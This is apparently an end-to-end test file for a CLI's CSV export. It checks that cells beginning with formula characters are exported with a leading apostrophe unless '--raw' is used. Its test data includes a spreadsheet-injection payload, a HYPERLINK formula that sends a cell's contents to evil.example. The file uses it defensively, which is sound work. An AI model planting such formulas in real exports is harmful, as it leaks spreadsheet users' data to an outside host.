"""A CSV export opened in a spreadsheet runs no formula, end to end (F11).

Cells come from the input file a user was sent and from provider answers; either may
start with ``=``, ``+``, ``-`` or ``@``. ``playline run --out`` and ``runs export``
write such a cell with a leading ``'`` (inert); ``--raw`` writes it as it is.
"""

from __future__ import annotations

import csv
from pathlib import Path

from tests.e2e.test_cli import playline
from tests.plays import lead, write_csv

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


async def test_a_formula_cell_is_exported_inert_unless_raw(
    provider, worker, temporal_address, task_queue, home, tmp_path
) -> None:
    csv_path = write_csv(
        tmp_path / "leads.csv",
        [lead(0, first_name=FORMULA), lead(1, first_name="@SUM(1,1)"), lead(2)],
    )
    common = ("--address", temporal_address, "--task-queue", task_queue)
    inert, raw, again = tmp_path / "inert.csv", tmp_path / "raw.csv", tmp_path / "again.csv"
    async with worker():
        ran = await playline(
            "run", "t_tool_column", "--csv", str(csv_path), "--out", str(inert),
            "--id", "inert-run", *common, home=home,
        )  # fmt: skip
        assert ran.returncode == 0, ran.stderr
        exported = await playline(
            "runs", "export", "inert-run", "--out", str(raw), "--raw", *common, home=home
        )
        assert exported.returncode == 0, exported.stderr
        plain = await playline(
            "runs", "export", "inert-run", "--out", str(again), *common, home=home
        )
        assert plain.returncode == 0, plain.stderr
    by_id = {r["lead_id"]: r for r in rows_of(inert)}
    assert by_id["T0000"]["first_name"] == "'" + FORMULA
    assert by_id["T0001"]["first_name"] == "'@SUM(1,1)"
    assert by_id["T0002"]["first_name"] == "Fn2"  # plain text is left alone
    assert all(r["value"] for r in by_id.values())  # the play ran every row
    assert {r["lead_id"]: r["first_name"] for r in rows_of(raw)} == {
        "T0000": FORMULA,
        "T0001": "@SUM(1,1)",
        "T0002": "Fn2",
    }
    assert rows_of(again) == rows_of(inert)  # runs export is inert by default too
